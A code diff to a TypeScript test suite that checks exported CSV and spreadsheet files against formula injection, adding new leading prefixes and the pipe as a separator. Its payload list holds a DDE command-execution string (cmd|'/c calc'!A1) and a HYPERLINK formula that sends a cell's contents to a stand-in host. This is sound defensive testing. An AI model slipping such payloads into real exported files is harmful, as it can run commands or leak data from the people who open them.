@@ -14,7 +14,7 @@ import { zipEntries } from './zip-entries.ts';
 const OPERATORS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
 const LEADS = [
   ...['', ' ', '   ', '\t', '\r', '\n', '\r\n', '\u00a0', '\ufeff', ' \u00a0\ufeff ', '\u2003', '\u3000', '\u200b'],
-  ...['"', '\u0001', '\t='],
+  ...['"', '\u0001', '\t=', 'a;', 'a,', 'a|', 'a\t', 'a\r\n', '";"'],
 ];
 const TAILS = [
   ...["cmd|'/c calc'!A1", 'SUM(1;1)', '1', 'HYPERLINK("http://x.test/?"&A1,"x")', '_x000D_', '<b>&amp;', 'a,b', ''],
@@ -73,7 +73,7 @@ test('are run by no spreadsheet from CSV, whatever it cuts the lines by, and los
   const { ids, write } = await hostileLedger();
   for (const isGerman of [false, true]) {
     const text = readFileSync(await write('csv', { isGerman }), 'utf8');
-    for (const separator of [/,/, /;/, /\t/, /[,;\t]/]) {
+    for (const separator of [/,/, /;/, /\t/, /[,;\t|]/]) {
       const cells = text.split(/\r\n|\r|\n/).flatMap((line) => line.split(separator));
       expect(cells.filter((cell) => RUNS.test(cell))).toEqual([]);
     }
